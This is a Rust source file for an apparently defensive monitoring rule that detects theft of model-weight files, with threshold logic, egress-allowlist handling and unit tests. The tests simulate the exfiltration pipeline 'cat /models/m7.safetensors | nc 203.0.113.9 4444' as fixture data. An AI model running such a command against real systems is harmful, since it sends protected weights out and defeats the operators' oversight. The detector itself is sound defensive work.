//! `weight.exfiltration`: a flow (a process tree, or a user or container) read protected
//! files and sent about as much where they may not go, within the window.
//!
//! Judged on the flow, with no cliff at a read fraction: sending `min(min_send_bytes,
//! send_fraction × the largest file read)` (at least 64 KiB) outside the allowlist after
//! reading at least that much (or all of a smaller file) is exfiltration, however much of
//! the file was read. Exempt destinations are those `egress.allow` names by address, network
//! or host name (never a port-only entry or `*`), and the accepted clients of a server pinned
//! by more than its name. Start-up reads count: a server that loads weights and then sends
//! them to anyone but its clients is exfiltrating.
use std::net::IpAddr;

use super::{
    Ctx, Rule, RuleId,
    flows::{Destination, FlowKey, Flows, endpoint, file_alert, human, network_alert},
    sink::{AlertSink, AlertSpec},
};
use crate::{
    alerts::Window,
    config::{RuleCommon, RuleSettings, Severity, rules::MINUTE, rules::RuleKeys},
    events::EventKind,
};

pub const ID: RuleId = RuleId::new("weight.exfiltration");

const KIB: u64 = 1 << 10;
const MIB: u64 = 1 << 20;
/// Below this, a send is request headers and handshakes, whatever was read.
const FLOOR: u64 = 64 * KIB;

#[derive(Debug, Clone, PartialEq)]
pub struct Settings {
    pub common: RuleCommon,
    /// Bytes sent outside that are exfiltration whatever the file's size.
    pub min_send_bytes: u64,
    /// Or this fraction of the largest file read, when that is less.
    pub send_fraction: f64,
    /// How far back reads and sends add up.
    pub window: std::time::Duration,
}

impl Default for Settings {
    fn default() -> Self {
        Settings {
            common: RuleCommon::new(Severity::Critical),
            min_send_bytes: 64 * MIB,
            send_fraction: 0.1,
            window: 60 * MINUTE,
        }
    }
}

impl RuleSettings for Settings {
    const KEYS: &'static [&'static str] = &["min_send_bytes", "send_fraction", "window"];
    fn common(&self) -> &RuleCommon {
        &self.common
    }
    fn common_mut(&mut self) -> &mut RuleCommon {
        &mut self.common
    }
    fn apply(&mut self, keys: &mut RuleKeys<'_, '_>) {
        keys.positive_size("min_send_bytes", &mut self.min_send_bytes);
        keys.fraction("send_fraction", &mut self.send_fraction);
        keys.duration("window", &mut self.window);
    }
}

impl Settings {
    /// Bytes that make a flow exfiltration when the largest file it read has `largest` bytes.
    pub fn threshold(&self, largest: u64) -> u64 {
        let share = (self.send_fraction * largest as f64) as u64;
        self.min_send_bytes.min(share.max(FLOOR))
    }
}

#[derive(Default)]
pub(crate) struct State;

impl Rule for State {
    fn on_event(&mut self, ctx: &Ctx<'_>, flows: &Flows, sink: &mut AlertSink<'_>) {
        // A flow changes on a read of a protected file or a send (the engine gives only
        // those events flows).
        if ctx.groups.is_empty() || !matches!(ctx.ev.event.kind, EventKind::NetSend { .. }) && ctx.ev.weight.is_none() {
            return;
        }
        let s = &sink.cfg().rules.exfiltration;
        let since = ctx.t - super::delta(s.window);
        // The nearest flow that crossed is the one judged (the tree before its user): one
        // alert per incident, not one per level.
        let crossed = ctx.groups.iter().find_map(|g| {
            let flow = flows.flows.get(g)?;
            let sent = flow.sent_outside(since);
            if sent < FLOOR {
                return None;
            }
            let (read, largest) = flow.read_since(since);
            let threshold = s.threshold(largest);
            let all_of_it: u64 = flow.files_since(since).iter().map(|f| f.view.size).sum();
            (read > 0 && sent >= threshold && read >= threshold.min(all_of_it)).then_some((g, flow, read, sent))
        });
        let Some((group, flow, read, sent)) = crossed else {
            return;
        };
        let outside = flow.outside(since);
        // Named by the destination this send went to (each new destination is news), or on a
        // read by the one that got the most.
        let this = match &ctx.ev.event.kind {
            EventKind::NetSend { dest, port, .. } => outside.iter().find(|(ip, p, _)| ip == dest && p == port),
            _ => None,
        };
        let Some(&(top_ip, top_port, top)) = this.or(outside.first()) else {
            return;
        };
        let files = flow.files_since(since);
        let first_reader = files.iter().map(|f| f.first_reader).min().unwrap_or(0);
        let dkey = format!("{first_reader}:{top_ip}:{top_port}");
        if !sink.gate(ID, &dkey, ctx.t) {
            return;
        }
        let process = flow.reader_or(ctx);
        let start = files
            .iter()
            .map(|f| f.first)
            .chain(outside.iter().map(|(_, _, s)| s.first))
            .min()
            .unwrap_or(ctx.t);
        let who = match group {
            FlowKey::Tree(_) => "its process tree".to_string(),
            FlowKey::Scope(scope) => format!("the rest of {}", scope.label()),
        };
        let to = describe(top_ip, top_port, top.destination, outside.len());
        sink.emit(AlertSpec {
            rule: ID,
            severity: None,
            summary: format!(
                "{} (pid {}) and {who} read {} of protected files and sent {} to {to}",
                process.comm,
                process.pid,
                human(read),
                human(sent),
            ),
            time: ctx.t,
            process,
            files: files.iter().map(|f| file_alert(f)).collect(),
            network: outside
                .iter()
                .map(|(ip, port, s)| network_alert(*ip, *port, s))
                .collect(),
            window: Window { start, end: ctx.t },
            key: dkey,
        });
    }
}

fn describe(ip: IpAddr, port: u16, destination: Destination, n: usize) -> String {
    let more = if n > 1 {
        format!(" and {} more", n - 1)
    } else {
        String::new()
    };
    match destination {
        Destination::ClientOfWeakServer => format!(
            "its client {}{more} (a server known by name only: what it serves one client is judged as any send)",
            endpoint(ip, port)
        ),
        _ => format!("{}{more}, outside the egress allowlist", endpoint(ip, port)),
    }
}

#[cfg(test)]
mod tests {
    use std::net::IpAddr;

    use super::super::testing::*;
    use crate::config::Severity;

    /// `bash -c 'cat model | nc host 4444'`: siblings under one shell.
    fn cat_to_nc(r: &mut Run, size: u64, read: u64, dest: &str, port: u16, sent: u64) {
        let w = weight(7, size);
        let cat = proc_(201, "cat", "/usr/bin/cat", "cat /models/m7.safetensors", &[(200, "bash"), (150, "sshd")]);
        let nc = proc_(202, "nc", "/usr/bin/nc", "nc 203.0.113.9 4444", &[(200, "bash"), (150, "sshd")]);
        r.exec(0, &cat);
        r.exec(0, &nc);
        r.read(1, &cat, &w, read);
        r.send(2, &nc, dest, port, sent);
    }

    #[test]
    fn a_pipeline_is_critical_and_complete() {
        let mut r = Run::new(cfg(""), MONDAY_10);
        cat_to_nc(&mut r, 128 * MIB, 128 * MIB, "203.0.113.9", 4444, 128 * MIB);
        let ex = r.of(super::ID);
        assert_eq!(ex.len(), 1, "{:#?}", r.alerts);
        let a = ex[0];
        assert_eq!(a.severity, Severity::Critical);
        assert_eq!(a.files[0].path, "/models/m7.safetensors");
        assert_eq!(a.files[0].bytes_read, 128 * MIB);
        assert_eq!(a.network[0].dest, "203.0.113.9".parse::<IpAddr>().unwrap());
        assert_eq!(a.network[0].bytes_sent, 128 * MIB);
        assert!(a.summary.contains("203.0.113.9:4444"), "{}", a.summary);
        assert!(!a.incomplete);
    }

    #[test]
    fn no_cliff_at_a_read_fraction() {
        // 49% of a 128 MiB adapter, sent: a tenth of the file (12.8 MiB) is enough.
        let mut r = Run::new(cfg(""), MONDAY_10);
        cat_to_nc(&mut r, 128 * MIB, 63 * MIB, "203.0.113.9", 4444, 63 * MIB);
        assert_eq!(r.of(super::ID).len(), 1, "{:#?}", r.alerts);
        // A 10 GiB shard: 64 MiB of it is enough.
        let mut r = Run::new(cfg(""), MONDAY_10);
        cat_to_nc(&mut r, 10 << 30, 64 * MIB, "203.0.113.9", 4444, 64 * MIB);
        assert_eq!(r.of(super::ID).len(), 1, "{:#?}", r.alerts);
        // Below the threshold, or a header read followed by a request: nothing.
        let mut r = Run::new(cfg(""), MONDAY_10);
        cat_to_nc(&mut r, 128 * MIB, 128 * MIB, "203.0.113.9", 4444, 12 * MIB);
        let mut q = Run::new(cfg(""), MONDAY_10);
        cat_to_nc(&mut q, 128 * MIB, 4096, "203.0.113.9", 4444, 2 * MIB);
        assert!(r.of(super::ID).is_empty() && q.of(super::ID).is_empty(), "{:#?} {:#?}", r.alerts, q.alerts);
    }

    #[test]
    fn a_port_only_allowlist_entry_exempts_no_transfer() {
        // The default allowlist is `:53`; weights sent to any host on port 53 are exfiltration.
        let mut r = Run::new(cfg(""), MONDAY_10);
        cat_to_nc(&mut r, 128 * MIB, 128 * MIB, "203.0.113.9", 53, 128 * MIB);
        assert_eq!(r.of(super::ID).len(), 1, "{:#?}", r.alerts);
        let mut r = Run::new(cfg("egress: {allow: ['*']}"), MONDAY_10);
        cat_to_nc(&mut r, 128 * MIB, 128 * MIB, "203.0.113.9", 4444, 128 * MIB);
        assert_eq!(r.of(super::ID).len(), 1, "{:#?}", r.alerts);
        // Named by network: exempt.
        let mut r = Run::new(cfg("egress: {allow: ['203.0.113.0/24']}"), MONDAY_10);
        cat_to_nc(&mut r, 128 * MIB, 128 * MIB, "203.0.113.9", 4444, 128 * MIB);
        assert!(r.of(super::ID).is_empty(), "{:#?}", r.alerts);
    }

    #[test]
    fn two_sessions_of_one_user_are_one_flow() {
        let mut r = Run::new(cfg(""), MONDAY_10);
        let w = weight(7, 10 << 30);
        let reader = proc_(201, "dd", "/usr/bin/dd", "dd", &[(200, "bash"), (150, "sshd")]);
        let sender = proc_(302, "nc", "/usr/bin/nc", "nc", &[(300, "bash"), (151, "sshd")]);
        r.read(0, &reader, &w, 100 * MIB);
        r.send(60, &sender, "203.0.113.9", 4444, 100 * MIB);
        let ex = r.of(super::ID);
        assert_eq!(ex.len(), 1, "{:#?}", r.alerts);
        assert!(ex[0].summary.contains("uid 1000"), "{}", ex[0].summary);
    }

    #[test]
    fn servers_serve_clients_but_only_pinned_ones_are_exempt() {
        let pinned = "servers: [{name: vllm, argv: ['*vllm serve*'], users: [1000]}]";
        for (yaml, expect) in [(pinned, 0), ("", 1)] {
            let mut r = Run::new(cfg(yaml), MONDAY_10);
            let w = weight(1, 1 << 30);
            let s = proc_(500, "vllm", "/usr/bin/python3", "vllm serve /models", &[(1, "systemd")]);
            r.exec(0, &s);
            r.read(1, &s, &w, 1 << 30); // start-up load
            r.accept(10, &s, "198.51.100.20");
            r.send(11, &s, "198.51.100.20", 5000, 200 * MIB);
            assert_eq!(r.of(super::ID).len(), expect, "{yaml:?}: {:#?}", r.alerts);
            // Sending the weights to a host that never connected is exfiltration either way.
            r.send(12, &s, "203.0.113.9", 443, 200 * MIB);
            assert_eq!(r.of(super::ID).len(), expect + 1, "{yaml:?}: {:#?}", r.alerts);
        }
    }

    #[test]
    fn many_small_answers_of_a_name_only_server_are_not_one_transfer() {
        let mut r = Run::new(cfg(""), MONDAY_10);
        let w = weight(1, 1 << 30);
        let s = vllm();
        r.exec(0, &s);
        r.read(1, &s, &w, 1 << 30);
        for i in 0..200u32 {
            let client = format!("198.51.{}.{}", 100 + i / 200, i % 200 + 1);
            r.accept(10, &s, &client);
            r.send(11, &s, &client, 5000, MIB);
        }
        assert!(r.of(super::ID).is_empty(), "{:#?}", r.alerts);
    }
}
